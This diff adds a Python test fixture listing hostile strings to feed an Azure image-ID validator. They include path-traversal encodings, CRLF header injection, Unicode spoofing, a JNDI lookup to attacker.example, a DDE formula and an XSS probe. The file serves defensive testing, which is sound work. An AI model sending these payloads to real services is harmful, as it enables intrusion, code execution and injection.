@@ -1,0 +1,48 @@
+"""Texts that attackers send where an image's id is expected. The attack tests send each of them through every door."""
+
+SUBSCRIPTION = "00000000-0000-4000-8000-000000000001"
+GROUP = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/myResourceGroup"
+IMAGES = f"{GROUP}/providers/Microsoft.Compute/images"
+
+IDS: dict[str, str] = {
+    "the folder itself": f"{IMAGES}/.",
+    "the folder above": f"{IMAGES}/..",
+    "a way up and down again": f"{IMAGES}/myImage/../../galleries/myGallery",
+    "a group that is the folder above": IMAGES.replace("myResourceGroup", ".."),
+    "a subscription that is the folder above": f"/subscriptions/../resourceGroups/g{IMAGES[len(GROUP) :]}/i",
+    "dots in percent signs": f"{IMAGES}/%2e%2e",
+    "dots in percent signs, twice": f"{IMAGES}/%252e%252e",
+    "a slash in percent signs": f"{IMAGES}/myImage%2f..%2fother",
+    "a slash in overlong UTF-8": f"{IMAGES}/..%c0%af..",
+    "backslashes": f"{IMAGES}/..\\..\\galleries",
+    "a NUL": f"{IMAGES}/myImage\x00.png",
+    "a line break and a header": f"{IMAGES}/myImage\r\nX-Injected: 1",
+    "a line break at the end of the group": IMAGES.replace("myResourceGroup", "myResourceGroup\n") + "/myImage",
+    "a line break at the end of the subscription": IMAGES.replace(SUBSCRIPTION, f"{SUBSCRIPTION}\n") + "/myImage",
+    "a colour of the terminal": f"{IMAGES}/\x1b[31mmyImage",
+    "a query": f"{IMAGES}/myImage?api-version=2015-01-01",
+    "a query that hides the rest": f"{GROUP}?/providers/Microsoft.Compute/images/myImage",
+    "a fragment": f"{IMAGES}/myImage#/other",
+    "parameters of a path": f"{IMAGES}/myImage;jsessionid=1",
+    "slashes of another script": f"{IMAGES}/..\u2215..\u2044galleries",
+    "full-width dots": f"{IMAGES}/\uff0e\uff0e",
+    "a name that reads backwards": f"{IMAGES}/my\u202egpj.egamI",
+    "a letter that nobody sees": f"{IMAGES}/my\u200bImage",
+    "the Kelvin sign for a K": IMAGES.replace("myResourceGroup", "wor\u212a") + "/myImage",
+    "a capital I with a dot": f"{IMAGES}/my\u0130mage",
+    "another host": f"https://attacker.example{IMAGES}/myImage",
+    "another host, any scheme": f"//attacker.example{IMAGES}/myImage",
+    "a host in the user's name": f"@attacker.example{IMAGES}/myImage",
+    "another provider": f"{GROUP}/providers/Microsoft.KeyVault/vaults/secrets",
+    "another type": f"{GROUP}/providers/Microsoft.Compute/virtualMachineScaleSets/myScaleSet",
+    "a child of an image": f"{IMAGES}/myImage/versions/1.0.0",
+    "an extension of an image": f"{IMAGES}/myImage/providers/Microsoft.Authorization/roleAssignments/1",
+    "a provider that is a path": f"{GROUP}/providers/../Microsoft.Compute/images/myImage",
+    "a subscription that is no GUID": IMAGES.replace(SUBSCRIPTION, "mine") + "/myImage",
+    "nothing but slashes": "/" * 64,
+    "far too long": f"{IMAGES}/{'a' * 5000}",
+    "a template": f"{IMAGES}/${{jndi:ldap://attacker.example/a}}",
+    "a formula": f"{IMAGES}/=cmd|'/c calc'!A1",
+    "markup": f"{IMAGES}/<script>alert(1)</script>",
+    "an empty name": f"{IMAGES}/",
+}
